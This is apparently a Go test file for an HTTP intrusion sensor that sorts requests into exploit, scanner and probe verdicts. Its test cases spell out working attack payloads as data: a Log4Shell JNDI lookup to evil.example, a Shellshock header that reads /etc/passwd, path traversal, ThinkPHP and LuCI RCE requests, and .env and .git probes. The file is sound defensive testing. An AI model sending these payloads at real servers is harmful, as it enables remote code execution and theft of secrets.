package httpsensor

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// req builds a server-side request from raw HTTP, as net/http would hand it over.
func req(t testing.TB, raw string) *http.Request {
	t.Helper()
	r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(raw)))
	if err != nil {
		t.Fatalf("parse %q: %v", raw, err)
	}
	r.RemoteAddr = "198.51.100.7:40000"
	return r
}

func TestObserve(t *testing.T) {
	chrome := "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36\r\nAccept: text/html\r\nAccept-Language: en\r\n"
	cases := []struct {
		name   string
		raw    string
		status int
		site   string
		named  bool
		want   Verdict
	}{
		{"plain page", "GET /about HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 200, "example.com", true, Verdict{}},
		{"a typo is legit", "GET /abuot HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 404, "example.com", true, Verdict{}},
		{"query with percent", "GET /search?q=100%25+sure HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 200, "example.com", true, Verdict{}},
		{"wordpress login on a wordpress site", "GET /wp-login.php HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 200, "example.com", true, Verdict{}},
		{"wordpress login on a site without it", "GET /wp-login.php HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 404, "example.com", true, Verdict{Exploit, "wordpress"}},
		{"dotenv", "GET /.env HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 404, "example.com", true, Verdict{Exploit, "dotenv"}},
		{"dotenv percent-encoded", "GET /%2eenv HTTP/1.1\r\nHost: example.com\r\n\r\n", 404, "example.com", true, Verdict{Exploit, "dotenv"}},
		{"git config", "GET /.git/config HTTP/1.1\r\nHost: example.com\r\n\r\n", 404, "example.com", true, Verdict{Exploit, "vcs-metadata"}},
		{"luci", "POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Length: 0\r\n\r\n", 404, "default", true, Verdict{Exploit, "luci-rce"}},
		{"thinkphp", "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1\r\nHost: example.com\r\n\r\n", 404, "example.com", true, Verdict{Exploit, "thinkphp-rce"}},
		{"log4shell in user agent", "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n", 200, "example.com", true, Verdict{Exploit, "log4shell"}},
		{"log4shell in any header", "GET / HTTP/1.1\r\nHost: example.com\r\nX-Api-Version: ${JNDI:ldap://evil.example/a}\r\n\r\n", 200, "example.com", true, Verdict{Exploit, "log4shell"}},
		{"log4shell in query", "GET /?x=$%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\r\nHost: example.com\r\n\r\n", 200, "example.com", true, Verdict{Exploit, "log4shell"}},
		{"shellshock", "GET /cgi-bin/status HTTP/1.1\r\nHost: example.com\r\nReferer: () { :; }; /bin/cat /etc/passwd\r\n\r\n", 200, "example.com", true, Verdict{Exploit, "shellshock"}},
		{"traversal", "GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: example.com\r\n\r\n", 400, "example.com", true, Verdict{Exploit, "path-traversal"}},
		{"apache cve-2021-41773", "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: example.com\r\n\r\n", 404, "example.com", true, Verdict{Exploit, "path-traversal"}},
		{"scanner user agent", "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n\r\n", 200, "example.com", true, Verdict{Scanner, "scanner-user-agent"}},
		{"exploit beats scanner", "GET /.env HTTP/1.1\r\nHost: example.com\r\nUser-Agent: sqlmap/1.7\r\n\r\n", 404, "example.com", true, Verdict{Exploit, "dotenv"}},
		{"nikto in a header other than user agent is not a scanner", "GET / HTTP/1.1\r\nHost: example.com\r\nReferer: https://example.org/nikto\r\n\r\n", 200, "example.com", true, Verdict{}},
		{"ip literal host", "GET / HTTP/1.1\r\nHost: 203.0.113.5\r\n" + chrome + "\r\n", 200, "default", true, Verdict{Probe, "ip-literal-host"}},
		{"ip literal host with port", "GET / HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\n" + chrome + "\r\n", 404, "", true, Verdict{Probe, "ip-literal-host"}},
		{"ip literal host without named sites", "GET / HTTP/1.1\r\nHost: 203.0.113.5\r\n" + chrome + "\r\n", 200, "default", false, Verdict{}},
		{"unknown host", "GET / HTTP/1.1\r\nHost: other.example\r\n" + chrome + "\r\n", 404, "", true, Verdict{Probe, "unknown-host"}},
		{"unknown host answered by the default site", "GET / HTTP/1.1\r\nHost: other.example\r\n" + chrome + "\r\n", 200, "default", true, Verdict{Probe, "unknown-host"}},
		{"connect", "CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n", 405, "", false, Verdict{Probe, "connect-method"}},
		{"propfind unsupported", "PROPFIND / HTTP/1.1\r\nHost: example.com\r\n\r\n", 405, "example.com", true, Verdict{Probe, "webdav-method"}},
		{"refused by a rate limit", "GET /login HTTP/1.1\r\nHost: example.com\r\n" + chrome + "\r\n", 429, "example.com", true, Verdict{Probe, "rate-limited"}},
		{"an exploit refused by a rate limit is an exploit", "GET /.env HTTP/1.1\r\nHost: example.com\r\n\r\n", 429, "example.com", true, Verdict{Exploit, "dotenv"}},
		{"propfind on a webdav site", "PROPFIND / HTTP/1.1\r\nHost: example.com\r\n\r\n", 207, "example.com", true, Verdict{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := New(Options{})
			got := s.Observe(req(t, tc.raw), tc.status, tc.site, tc.named, time.Now())
			if got != tc.want {
				t.Fatalf("got %+v, want %+v", got, tc.want)
			}
			snap := s.Snapshot(10)
			if tc.want == (Verdict{}) {
				if snap.UnsolicitedTotal != 0 || len(snap.Sources) != 0 {
					t.Fatalf("legit request recorded: %+v", snap)
				}
				return
			}
			if snap.UnsolicitedTotal != 1 || len(snap.Sources) != 1 || snap.Sources[0].Source != "198.51.100.7" ||
				snap.Sources[0].Categories[tc.want.Category] != 1 || snap.Categories[tc.want.Category] != 1 {
				t.Fatalf("snapshot = %+v", snap)
			}
		})
	}
}

func TestNotFoundBurst(t *testing.T) {
	s := New(Options{})
	now := time.Unix(1700000000, 0)
	get := func(path string, at time.Time) Verdict {
		return s.Observe(req(t, "GET "+path+" HTTP/1.1\r\nHost: example.com\r\n\r\n"), 404, "example.com", true, at)
	}
	// the same missing path again and again is a broken link, not a scan
	for i := 0; i < 30; i++ {
		if v := get("/favicon.ico", now.Add(time.Duration(i)*time.Second)); v != (Verdict{}) {
			t.Fatalf("repeated 404 #%d: %+v", i, v)
		}
	}
	// after a quiet minute: nine distinct misses are still legit; the tenth within
	// the minute is a scan
	now = now.Add(2 * time.Minute)
	for i := 0; i < 9; i++ {
		if v := get(fmt.Sprintf("/missing-%d", i), now.Add(31*time.Second)); v != (Verdict{}) {
			t.Fatalf("404 #%d flagged early: %+v", i, v)
		}
	}
	if v := get("/missing-9", now.Add(32*time.Second)); v != (Verdict{Scanner, "404-burst"}) {
		t.Fatalf("tenth distinct 404: %+v", v)
	}
	if v := get("/missing-1", now.Add(33*time.Second)); v != (Verdict{Scanner, "404-burst"}) {
		t.Fatalf("404 after flagging: %+v", v)
	}
	// after a quiet window the source starts afresh
	if v := get("/missing-10", now.Add(5*time.Minute)); v != (Verdict{}) {
		t.Fatalf("404 after a quiet window: %+v", v)
	}
	// distinct misses spread over more than the window are not a burst
	for i := 0; i < 20; i++ {
		if v := get(fmt.Sprintf("/slow-%d", i), now.Add(10*time.Minute+time.Duration(i)*10*time.Second)); v != (Verdict{}) {
			t.Fatalf("slow 404 #%d flagged: %+v", i, v)
		}
	}
}

func TestTablesAreBounded(t *testing.T) {
	s := New(Options{MaxSources: 50, MaxTracked: 50})
	now := time.Now()
	for i := 0; i < 1000; i++ {
		r := req(t, fmt.Sprintf("GET /.env%d HTTP/1.1\r\nHost: example.com\r\n\r\n", i))
		r.RemoteAddr = fmt.Sprintf("10.%d.%d.1:1234", i/256, i%256)
		s.Observe(r, 404, "example.com", true, now.Add(time.Duration(i)*time.Millisecond))
	}
	snap := s.Snapshot(0)
	if snap.UnsolicitedTotal != 1000 {
		t.Fatalf("total = %d", snap.UnsolicitedTotal)
	}
	if snap.TrackedSources > 50 || len(snap.Sources) > 50 {
		t.Fatalf("table grew to %d", snap.TrackedSources)
	}
	if snap.Evicted < 1900 {
		// 950 from the source table, 950 from the 404 counters
		t.Fatalf("evicted = %d, want 1900", snap.Evicted)
	}
	// the most recent sources survive eviction
	found := false
	for _, so := range snap.Sources {
		found = found || so.Source == "10.3.231.1"
	}
	if !found {
		t.Fatalf("latest source evicted: %+v", snap.Sources)
	}
}

func TestConnFirstBytes(t *testing.T) {
	cases := []struct {
		name  string
		bytes []string // successive writes
		want  string   // rule, "" for none
	}{
		{"http", []string{"GET / HTTP/1.1\r\nHost: x\r\n\r\n"}, ""},
		{"leading crlf", []string{"\r\nGET / HTTP/1.1\r\n\r\n"}, ""},
		{"tls client hello", []string{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"}, "tls-on-http"},
		{"ssh banner", []string{"SSH-2.0-OpenSSH_9.2p1\r\n"}, "ssh-on-http"},
		{"ssh banner split", []string{"SS", "H-2.0-Go\r\n"}, "ssh-on-http"},
		{"search method", []string{"SEARCH / HTTP/1.1\r\n\r\n"}, ""},
		{"binary", []string{"\x00\x00\x00\x2c\x00\x00"}, "binary-on-http"},
		{"rdp", []string{"\x03\x00\x00\x13\x0e\xe0"}, "binary-on-http"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := New(Options{})
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			wl := s.WrapListener(ln)
			got := make(chan string, 1)
			go func() {
				c, err := wl.Accept()
				if err != nil {
					got <- err.Error()
					return
				}
				defer c.Close()
				var all []byte
				buf := make([]byte, 3) // small reads: the sensor must cope
				for {
					n, err := c.Read(buf)
					all = append(all, buf[:n]...)
					if err != nil {
						break
					}
				}
				got <- string(all)
			}()
			c, err := net.Dial("tcp", ln.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			want := ""
			for _, b := range tc.bytes {
				c.Write([]byte(b))
				want += b
				time.Sleep(time.Millisecond) // let the writes arrive as separate reads
			}
			c.Close()
			if read := <-got; read != want {
				t.Fatalf("server read %q, sent %q: the sensor must not consume bytes", read, want)
			}
			var rule string
			for _, rc := range s.Counts() {
				if rc.Count > 0 {
					rule = rc.Name
				}
			}
			if rule != tc.want {
				t.Fatalf("rule = %q, want %q", rule, tc.want)
			}
		})
	}
}

func TestRulesFile(t *testing.T) {
	rules := DefaultRules()
	if len(rules) < 20 {
		t.Fatalf("only %d rules", len(rules))
	}
	for i, r := range rules {
		if i > 0 && categoryRank(r.Category) < categoryRank(rules[i-1].Category) {
			t.Fatalf("rules not in order of precedence at %q", r.Name)
		}
	}
	bad := []struct{ name, toml string }{
		{"unknown key", "[[rule]]\nname='a'\ncategory='probe'\nfield='method'\nmethod='X'\nref='r'\ncolour='red'\n"},
		{"no ref", "[[rule]]\nname='a'\ncategory='probe'\nfield='method'\nmethod='X'\n"},
		{"bad category", "[[rule]]\nname='a'\ncategory='evil'\nfield='method'\nmethod='X'\nref='r'\n"},
		{"bad field", "[[rule]]\nname='a'\ncategory='probe'\nfield='cookie'\nref='r'\n"},
		{"duplicate", "[[rule]]\nname='a'\ncategory='probe'\nfield='method'\nmethod='X'\nref='r'\n[[rule]]\nname='a'\ncategory='probe'\nfield='method'\nmethod='Y'\nref='r'\n"},
		{"burst without window", "[[rule]]\nname='a'\ncategory='scanner'\nfield='status'\ncheck='404-burst'\nthreshold=5\nref='r'\n"},
		{"empty pattern", "[[rule]]\nname='a'\ncategory='exploit'\nfield='uri'\ncontains=['']\nref='r'\n"},
	}
	for _, tc := range bad {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := ParseRules([]byte(tc.toml)); err == nil {
				t.Fatal("accepted")
			}
		})
	}
}

func FuzzParseRules(f *testing.F) {
	f.Add(defaultRules)                                                                              // the real file
	f.Add([]byte("[[rule]]\nname='a'\ncategory='exploit'\nfield='uri'\ncontains=['/x']\nref='r'\n")) // minimal
	f.Add([]byte("[[rule]]\nname='b'\ncategory='scanner'\nfield='status'\ncheck='404-burst'\nthreshold=3\nwindow='1s'\nref='r'\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rules, err := ParseRules(data)
		if err != nil {
			return
		}
		s := New(Options{Rules: rules})
		s.Observe(req(t, "GET /x/../.env?${jndi: HTTP/1.1\r\nHost: 1.2.3.4\r\nUser-Agent: a\r\n\r\n"), 404, "", true, time.Now())
	})
}

func FuzzObserve(f *testing.F) {
	f.Add("/index.html", "Mozilla/5.0", "example.com", 200) // legit
	f.Add("/.git/HEAD", "curl/8", "1.2.3.4:80", 404)        // exploit and IP host
	f.Add("/%2e%2e/%2e%2e/etc/passwd", "${jndi:x}", "[::1]", 400)
	s := New(Options{})
	f.Fuzz(func(t *testing.T, path, ua, host string, status int) {
		r, err := http.NewRequest("GET", "http://x/", nil)
		if err != nil {
			t.Fatal(err) // a constant URL: never the fuzzer's input
		}
		r.RequestURI, r.URL.Path, r.Host, r.RemoteAddr = path, path, host, "192.0.2.1:1"
		r.Header.Set("User-Agent", ua)
		v := s.Observe(r, status, "", true, time.Now())
		if (v.Rule == "") != (v.Category == "") {
			t.Fatalf("half a verdict: %+v", v)
		}
	})
}

// legitRequest is a browser's request for a page, as a benchmark input.
const legitRequest = "GET /blog/2024/05/how-we-moved-to-gantry.html?ref=home HTTP/1.1\r\nHost: example.com\r\n" +
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36\r\n" +
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.9\r\n" +
	"Accept-Encoding: gzip, deflate, br\r\nCookie: session=abcdef0123456789\r\nReferer: https://example.com/\r\n\r\n"

func BenchmarkObserveLegit(b *testing.B) {
	s := New(Options{})
	r := req(b, legitRequest)
	now := time.Now()
	b.ReportAllocs()
	for b.Loop() {
		if v := s.Observe(r, 200, "example.com", true, now); v.Rule != "" {
			b.Fatal(v)
		}
	}
}

// BenchmarkReadRequestBaseline is net/http parsing the same request: the yardstick
// for the sensor's cost, measured in the same run.
func BenchmarkReadRequestBaseline(b *testing.B) {
	rd := strings.NewReader(legitRequest)
	br := bufio.NewReader(rd)
	b.ReportAllocs()
	for b.Loop() {
		rd.Reset(legitRequest)
		br.Reset(rd)
		if _, err := http.ReadRequest(br); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkObserveExploit(b *testing.B) {
	s := New(Options{})
	r := req(b, "GET /.env HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n")
	now := time.Now()
	b.ReportAllocs()
	for b.Loop() {
		s.Observe(r, 404, "default", true, now)
	}
}
